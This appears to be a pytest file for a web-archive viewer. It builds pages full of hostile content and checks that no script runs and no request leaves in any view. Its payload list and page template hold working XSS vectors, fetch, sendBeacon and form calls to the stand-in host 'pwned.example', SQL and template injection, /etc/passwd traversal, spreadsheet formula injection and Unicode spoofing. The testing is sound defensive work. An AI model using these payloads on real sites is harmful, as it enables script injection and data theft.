"""Hostile pages: no script runs, no request leaves, every view can be read."""

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from sitestrata.run.mine import mine

OUT = "http://pwned.example"
PAYLOADS = (
    f"<script>fetch('{OUT}/1');alert(1)</script>",
    f'"><img src={OUT}/2 onerror="alert(2)">',
    f"'><svg onload=fetch('{OUT}/3')>",
    f"</title><iframe srcdoc=\"<script>parent.location='{OUT}/4'</script>\"></iframe>",
    f"javascript:fetch('{OUT}/5')",
    f"</style><link rel=stylesheet href={OUT}/6><style>@import '{OUT}/7';",
    f"{{{{constructor.constructor(\"fetch('{OUT}/8')\")()}}}}",
    f'<base href={OUT}/><meta http-equiv=refresh content="0;url={OUT}/9">',
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f",
    "</textarea></noscript></template><math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "' OR 1=1; DROP TABLE pages; --",
    "../../../../etc/passwd\u0000.html",
    '=HYPERLINK("http://pwned.example/11")',
    "A" * 3000,
    "${7*7}<%= 7*7 %>#{7*7}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 40,
)


# What was captured with the pages is shown, and may do no more than they.
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30' onload='alert(30)'><script>alert(31)</script>"
    f"<image href='{OUT}/inner.png'/><rect width='40' height='30' fill='red'/></svg>"
)
CAPTURED = {
    f"{OUT}/img.png": ("image/svg+xml", SVG),
    f"{OUT}/b.png": ("image/svg+xml", SVG),
    f"{OUT}/c.css": (
        "text/css",
        f"""@import '{OUT}/i2.css';h1{{color:rgb(1,2,3);background:url('{OUT}/b.png'),url({OUT}/missing.png)}}
        </style><script>alert(32)</script>p::before{{content:url({OUT}/z.png)}}""",
    ),
}


def hostile_page(number: int, payload: str) -> bytes:
    """A page that uses a payload as title, labels, classes, ids, addresses and content, and attacks by itself.

    The links come last, because some payloads swallow what follows.
    """
    links = "".join(
        f'<li class="{payload}"><a id="{payload}" title="{payload}" href="/p{i}.html?{quote(PAYLOADS[i][:200])}">'
        f"{PAYLOADS[i]}</a>"
        for i in range(len(PAYLOADS))
    )
    return f"""<!doctype html><html lang="{payload}" onload="alert(20)"><head><title>{payload}</title>
        <script src="{OUT}/s.js"></script><link rel="preconnect" href="{OUT}"><link rel="dns-prefetch" href="{OUT}">
        <link rel="stylesheet" href="{OUT}/c.css"><meta http-equiv="refresh" content="0;url={OUT}/r">
        <style>@import url({OUT}/i.css);body{{background:url({OUT}/b.png)}} @font-face{{font-family:x;src:url({OUT}/f)}}
        *{{font-family:x}} .u{{background:\\75rl({OUT}/u.png)}} .v{{background:image-set("{OUT}/v.png" 1x)}}</style>
        </head>
        <body class="u v" onpageshow="alert(21)"><h1>{payload}</h1>
        <table><tr><th>{payload}<th>Price<tr><td>{payload}<td>1<tr><td>x<td>2<tr><td>y<td>3</table>
        <img src="{OUT}/img.png" onerror="alert(22)"><iframe src="{OUT}/f"></iframe><object data="{OUT}/o"></object>
        <form id=f action="{OUT}/form"><input name=a autofocus onfocus="alert(23)"><button>go</button></form>
        <script>document.forms[0].submit();fetch('{OUT}/x');navigator.sendBeacon('{OUT}/y')</script>
        <video src="{OUT}/v" poster="{OUT}/p"></video><svg><script>alert(24)</script><use href="{OUT}/u"/></svg>
        <a href="javascript:alert(25)" ping="{OUT}/ping">click {number}</a>
        <details open ontoggle="alert(26)">d</details>
        <div style="background:url({OUT}/st.png);position:fixed;inset:0;z-index:99999">{payload}</div>
        <ul class="{payload}">{links}</ul>
        </body></html>""".encode("utf-8", "replace")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, serve: Callable[..., Any]) -> Any:
    folder = tmp_path_factory.mktemp("hostile")
    with (folder / "web.warc.gz").open("wb") as file:
        writer = WARCWriter(file, gzip=True)
        for host in ("a", "b"):
            for number, payload in enumerate(PAYLOADS):
                uri = f"http://{host}.hostile.example/p{number}.html?{quote(payload[:200])}"
                headers = StatusAndHeaders(
                    "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
                )
                body = io.BytesIO(hostile_page(number, payload))
                writer.write_record(writer.create_warc_record(uri, "response", payload=body, http_headers=headers))
        for uri, (kind, content) in CAPTURED.items():
            headers = StatusAndHeaders("200 OK", [("Content-Type", kind)], protocol="HTTP/1.1")
            record = writer.create_warc_record(
                uri, "response", payload=io.BytesIO(content.encode()), http_headers=headers
            )
            writer.write_record(record)
    mine([folder / "web.warc.gz"], folder / "ws", workers=1)
    return serve(folder / "ws")


def test_the_watch_would_notice(hostile: Any, watch: Callable[..., Any]) -> None:
    """The same page, shown without our care, runs scripts and sends requests: the tests below can fail."""
    browser = watch(hostile)
    browser.page.route("**/*", lambda route: route.abort() if "pwned" in route.request.url else route.continue_())
    browser.page.goto("about:blank")
    browser.page.set_content(hostile_page(0, "x").decode())
    browser.page.wait_for_timeout(500)

    assert browser.left()
    assert browser.dialogs


def test_no_script_runs_and_no_request_leaves_in_any_view(hostile: Any, watch: Callable[..., Any]) -> None:
    browser = watch(hostile)
    page = browser.page
    pages = page.evaluate(
        "fetch('/api/pages?limit=200&host=a.hostile.example').then(r => r.json()).then(d => d.rows.map(r => r.page))"
    )
    sites = page.evaluate("fetch('/api/sites?limit=9').then(r => r.json()).then(d => d.rows.map(r => r.site))")
    assert len(pages) >= len(PAYLOADS)
    paths = [
        "/",
        "/pages",
        "/correct/judge",
        "/run",
        *(f"/page/{number}?show=segments,menus,tables,blocks" for number in pages),
    ]
    paths += [f"/site/{site}{tab}" for site in sites[:2] for tab in ("", "/tree", "/menus", "/pages", "/scales")]
    paths += [f"/page/{pages[0]}/{tab}" for tab in ("labels", "tables", "facts")]
    for path in paths:
        browser.open(path)
        text = page.locator("main").inner_text()
        assert text.strip(), path
        assert not any(mark in text for mark in "\u202e\u2066\u2069\u200f"), path
    page.wait_for_timeout(300)

    assert [] == browser.left()
    assert [] == browser.dialogs
    assert [] == browser.errors
    assert all(frame.url.startswith((hostile.base, "about:")) for frame in page.frames)


def test_clicking_around_in_an_archived_page_leads_nowhere(hostile: Any, watch: Callable[..., Any]) -> None:
    browser = watch(hostile)
    page = browser.page
    one = page.evaluate("fetch('/api/pages?limit=1').then(r => r.json()).then(d => d.rows[0].page)")
    browser.open(f"/page/{one}")
    for link in page.frame_locator("iframe").locator("[role=link]").all()[:5]:
        link.dispatch_event("click")
    page.frame_locator("iframe").locator("body").press("Enter")
    page.wait_for_timeout(200)

    assert f"/page/{one}" in page.url
    assert [] == browser.left()
    assert [] == browser.dialogs


def test_an_archived_page_opened_by_itself_is_as_harmless(hostile: Any, watch: Callable[..., Any]) -> None:
    browser = watch(hostile)
    page = browser.page
    one = page.evaluate("fetch('/api/pages?limit=1').then(r => r.json()).then(d => d.rows[0].page)")
    page.goto(f"{hostile.base}/api/pages/{one}/archive")
    page.wait_for_timeout(300)

    assert [] == browser.left()
    assert [] == browser.dialogs
    assert page.url.startswith(hostile.base)


def test_captured_style_and_images_are_shown_and_nothing_is_asked_for(hostile: Any, watch: Callable[..., Any]) -> None:
    browser = watch(hostile)
    page = browser.page
    one = page.evaluate("fetch('/api/pages?q=/p12.html').then(r => r.json()).then(d => d.rows[0].page)")
    before = len(browser.requests)
    browser.open(f"/page/{one}")
    frame = page.frame_locator("iframe")
    frame.locator("h1").wait_for(state="attached")

    image = "node => node.complete && [node.naturalWidth, node.naturalHeight]"
    assert [40, 30] == frame.locator("img[src]").first.evaluate(image)
    assert "rgb(1, 2, 3)" == frame.locator("h1").evaluate("node => getComputedStyle(node).color")
    asked = [url for url in browser.requests[before:] if not url.startswith("data:image/")]
    assert all(
        url.startswith((f"{hostile.base}/page/", f"{hostile.base}/assets/", f"{hostile.base}/api/")) for url in asked
    )
    assert [] == browser.left()
    assert [] == browser.dialogs


def test_hostile_decisions_are_shown_as_text(
    hostile: Any, serve: Callable[..., Any], watch: Callable[..., Any], tmp_path: Path
) -> None:
    import shutil

    shutil.copytree(hostile.folder, tmp_path / "ws")
    served = serve(tmp_path / "ws")
    browser = watch(served)
    page = browser.page
    sites = page.evaluate("fetch('/api/sites?limit=9').then(r => r.json()).then(d => d.rows.map(r => r.site))")
    browser.open(f"/site/{sites[0]}")
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("dialog").get_by_label("Name").fill(PAYLOADS[0])
    page.get_by_role("dialog").get_by_role("button", name="Keep").click()
    page.get_by_text("Kept. Mine again").wait_for()
    browser.open("/correct")

    assert PAYLOADS[0] in page.locator(".decisions").inner_text()
    assert [] == browser.left()
    assert [] == browser.dialogs
